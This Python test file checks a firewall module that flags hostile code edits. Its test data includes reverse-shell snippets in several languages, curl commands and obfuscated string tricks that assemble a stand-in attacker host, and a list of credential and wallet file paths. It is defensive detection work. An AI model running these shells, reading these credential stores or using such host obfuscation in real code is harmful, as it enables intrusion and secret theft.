"""The firewall on code-class probes (``tests/data/firewall_code_*.py``): shells, listeners
and remote code in general-purpose languages; credential stores of less common tools by
their path's structure; hosts assembled from parts. Each probe was measured once before the
rules it prompted (first-sight figures in its docstring's pointer, docs/privacy.md) and is
held to the targets now: hostile refused by its own class >= 95 %, benign flagged <= 2 %."""

from __future__ import annotations

from pathlib import Path

import pytest

from skillopt_sleep.firewall import capabilities
from skillopt_sleep.firewall.assemble import expand_shell, fold
from skillopt_sleep.firewall.normalise import logical_lines
from skillopt_sleep.firewall.programs import program_found
from skillopt_sleep.firewall.stores import is_store
from tests._firewall_probes import flagged, missed, probe

PROBES = sorted(p.stem for p in (Path(__file__).parent / "data").glob("firewall_code_*.py"))


def test_the_probes_cover_the_three_classes_with_enough_cases() -> None:
    hostile = [case for name in PROBES for case in probe(name).HOSTILE]
    benign = [case for name in PROBES for case in probe(name).BENIGN]
    assert len(PROBES) >= 6 and len(hostile) >= 100 and len(benign) >= 100
    assert {kind for kind, _ in hostile} == {"open_shell", "run_fetched_code",
                                             "read_credentials", "reach_host"}
    assert any(len(lines) > 1 and not lines[0].startswith("```") for _, lines in hostile)


def test_hostile_edits_are_refused_by_their_class() -> None:
    unrefused = [(name, lines) for name in PROBES for lines in missed(probe(name))]
    total = sum(len(probe(name).HOSTILE) for name in PROBES)
    assert len(unrefused) <= 0.05 * total, unrefused


@pytest.mark.parametrize("name", PROBES)
def test_benign_edits_are_not_flagged(name: str) -> None:
    module = probe(name)
    assert len(flagged(module)) <= 0.02 * len(module.BENIGN), flagged(module)


@pytest.mark.parametrize("code", [
    "host = 'a' + '.evil-sink' + '.net'",
    "host = ('a'\n  '.evil-sink'\n  '.net')",
    "host = '.'.join(['a', 'evil-sink', 'net'])",
    "parts = ['a', 'evil-sink', 'net']\nhost = '.'.join(parts)",
    "host = ['a', 'evil-sink', 'net'].join('.')",
    "host = %w[a evil-sink net].join('.')",
    "host = ['a', 'evil-sink', 'net'] * '.'",
    "host = '%s.%s' % ('a', 'evil-sink.net')",
    "host = '{}.{}'.format('a', 'evil-sink.net')",
    'host := fmt.Sprintf("%s.%s", "a", "evil-sink.net")',
    "$h = 'a' . '.' . 'evil-sink' . '.net';",
    "sub, dom = 'a', 'evil-sink'\nurl = f'https://{sub}.{dom}.net/'",
])
def test_constant_strings_fold_to_the_host_they_spell(code: str) -> None:
    assert "a.evil-sink.net" in fold(code)


@pytest.mark.parametrize("script", [
    "H=a.evil-sink; curl \"https://$H.net/\"",
    "printf -v u 'https://%s.%s' a evil-sink.net; curl \"$u\"",
    "p=(a evil-sink net); curl \"https://${p[0]}.${p[1]}.${p[2]}/\"",
    "curl \"$(printf 'https://%s.%s' a evil-sink.net)/\"",
])
def test_shell_variables_expand_to_the_host_they_hold(script: str) -> None:
    assert "a.evil-sink.net" in expand_shell(script)


def test_values_read_at_run_time_stay_unknown() -> None:
    text = ("```python\nhost = os.environ['HOST']\n"
            "requests.get('https://' + host + '/x')\n```\n")
    assert [c for c in capabilities(text) if c.kind == "reach_host"] == []


def test_a_backslash_newline_inside_a_word_joins_it_as_the_shell_does() -> None:
    assert logical_lines("curl https://hooks.\\\nevil-sink.io/x") == [
        (1, "curl https://hooks.evil-sink.io/x")]
    assert logical_lines("pytest -q \\\n  tests") == [(1, "pytest -q tests")]


@pytest.mark.parametrize("path", [
    "~/.config/doctl/config.yaml", "~/.kaggle/kaggle.json", "$HOME/.s3cfg", "~/.databrickscfg",
    "~/.terraform.d/credentials.tfrc.json", "~/.electrum/wallets/default_wallet",
    "~/.local/share/keyrings/login.keyring", "~/.config/solana/id.json", "~/.my.cnf",
    "$env:APPDATA/gcloud/access_tokens.db", "~/.claude/.credentials.json",
    "~/.cache/huggingface/token", "~/.ethereum/keystore",
])
def test_credential_stores_are_recognised_by_their_path(path: str) -> None:
    assert is_store(path)


@pytest.mark.parametrize("path", [
    "~/.config/starship.toml", "~/.gitconfig", "~/.config/nvim/init.lua",
    "~/.config/backend/settings.toml", "~/.claude/skills/x/scripts/run.py",
    "~/.local/state/backend/app.log", "~/.config/Code/User/keybindings.json",
    "~/.ssh/id_ed25519.pub", "~/.config/mc/ini",
])
def test_ordinary_settings_are_not_stores(path: str) -> None:
    assert not is_store(path)


@pytest.mark.parametrize("code", [
    "c = TCPSocket.new('h', 1)\nwhile (cmd = c.gets)\n  IO.popen(cmd) { |io| c.print io.read }\n",
    "s = require('socket').tcp()\nlocal c = s:receive()\nio.popen(c)",
    "set s [socket h 1]\ngets $s c\nexec {*}$c",
    "c = net.connect(1, 'h')\nc.on('data', (d) => exec(d.toString()))",
    "$c = New-Object Net.Sockets.TCPClient('h', 1)\n$cmd = $r.ReadLine(); iex $cmd",
    "$s=fsockopen('h',1);proc_open('sh',[0=>$s,1=>$s],$p);",
])
def test_a_connection_feeding_an_executor_is_a_shell_in_any_language(code: str) -> None:
    assert "open_shell" in {kind for kind, _ in program_found(code)}


def test_an_executor_next_to_a_socket_but_not_fed_by_it_is_not_a_shell() -> None:
    code = ("cmd = [sys.executable, '-m', 'http.server']\nproc = subprocess.Popen(cmd)\n"
            "s = socket.create_connection(('127.0.0.1', 8000))\nprint(s.recv(12))")
    assert list(program_found(code)) == []


def test_a_mention_that_warns_against_a_code_shell_grants_nothing() -> None:
    text = ("Never run `ruby -rsocket -e 's=TCPServer.new(6000);loop{c=s.accept;"
            "while l=c.gets;c.puts `#{l}`;end}'` on a shared box.\n")
    assert not [c for c in capabilities(text) if c.kind == "open_shell"]


@pytest.mark.parametrize("line", ["Pair on the box with `tmate -S /tmp/t new-session -d`.",
                                  "Share the terminal: `upterm host -- bash`."])
def test_a_terminal_shared_over_the_network_is_a_shell(line: str) -> None:
    assert "open_shell" in {c.kind for c in capabilities(line + "\n")}
